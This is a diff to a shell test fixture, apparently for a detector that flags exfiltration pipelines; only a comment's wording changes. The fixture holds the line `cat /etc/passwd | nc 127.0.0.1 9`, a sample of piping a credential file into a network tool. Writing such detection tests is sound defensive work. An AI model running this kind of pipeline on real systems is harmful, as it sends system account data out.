@@ -1,5 +1,5 @@
 #!/bin/sh
-# A credential file goes to the network without an upload option, by a program that does nothing.
+# A credential file is sent without an upload option, by a program that does nothing.
 # expects: exfiltration_shell_pipeline 2
 
 sh -c 'cat /etc/passwd | nc 127.0.0.1 9'
